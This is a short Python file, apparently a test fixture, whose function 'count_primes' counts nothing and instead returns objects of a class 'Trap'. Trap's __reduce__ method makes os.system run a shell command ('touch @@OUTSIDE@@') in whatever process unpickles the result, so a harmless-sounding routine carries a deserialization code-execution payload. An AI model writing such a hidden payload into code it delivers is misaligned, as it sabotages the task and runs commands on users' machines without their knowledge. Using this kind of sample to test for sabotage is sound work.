"""Returns an object that runs a program in whoever unpickles it."""
import os


class Trap:
    def __reduce__(self):
        return (os.system, ("touch @@OUTSIDE@@",))


def count_primes(limits, processes=2):
    return [Trap() for _ in limits]
